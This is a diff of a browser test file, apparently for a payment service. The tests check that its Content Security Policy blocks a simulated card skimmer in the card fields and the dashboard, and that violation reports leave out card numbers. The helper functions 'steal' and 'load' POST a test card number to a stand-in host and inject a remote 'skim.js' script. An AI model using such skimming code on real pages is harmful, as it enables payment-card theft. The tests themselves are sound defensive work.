@@ -86,50 +86,50 @@ async function steal(url: string) {
   await fetch(`${url}/card?number=4111111111111111`, { method: "POST", mode: "no-cors" }).catch(() => {});
 }
 
-/** And how it would come in. */
+/** How a skimmer would come in: as a script from another site. */
 const load = (url: string) =>
   document.head.append(
     Object.assign(document.createElement("script"), { src: `${url}/skim.js?card=4111111111111111` }),
   );
 
-/** Where the loot shall go, what has come back from there, and what browsers tell of it. */
+/** A new address for what is stolen, the answers that came from it, and what browsers reported of it. */
 function provoke(page: Page) {
   const url = `https://elsewhere.example${PROVOKED}/${newId()}`;
   const answered: string[] = [];
   page.on("response", (response) => response.url().startsWith(url) && answered.push(response.url()));
-  const told = () =>
+  const reported = () =>
     readReports()
       .filter(({ blocked }) => blocked?.startsWith(url))
       .map(({ directive, blocked, document }) => `${directive} ${blocked?.slice(url.length)} in ${document}`)
       .sort();
-  return { url, answered, told };
+  return { url, answered, reported };
 }
 
 test.describe("what does not belong in a page of ours", () => {
   test.use({ allowErrors: /elsewhere\.example\/provoked-by-a-test/ });
 
-  test("is blocked in the card fields, and told to us without a card's number", async ({ page, seller }) => {
+  test("is blocked in the card fields, and reported to us without a card's number", async ({ page, seller }) => {
     const shop = await openShop(seller);
     await page.goto(shop.origin);
     await typeCard(page);
-    const { url, answered, told } = provoke(page);
+    const { url, answered, reported } = provoke(page);
     const frame = page.frames()[1];
     await frame?.evaluate(load, url);
     await frame?.evaluate(steal, url);
     const place = `in ${env.APP_URL}/fields`;
     await expect
-      .poll(told)
+      .poll(reported)
       .toEqual([`connect-src /card ${place}`, `img-src /….png ${place}`, `script-src-elem /skim.js ${place}`]);
     expect(answered).toEqual([]);
     shop.close();
   });
 
-  test("is blocked in the dashboard, and told to us without a card's number", async ({ page, seller }) => {
+  test("is blocked in the dashboard, and reported to us without a card's number", async ({ page, seller }) => {
     await page.goto("/public-key");
-    const { url, answered, told } = provoke(page);
+    const { url, answered, reported } = provoke(page);
     await page.evaluate(steal, url);
     const place = `in ${env.APP_URL}/${seller.accountId}/public-key`;
-    await expect.poll(told).toEqual([`connect-src /card ${place}`, `img-src /….png ${place}`]);
+    await expect.poll(reported).toEqual([`connect-src /card ${place}`, `img-src /….png ${place}`]);
     expect(answered).toEqual([]);
   });
 });
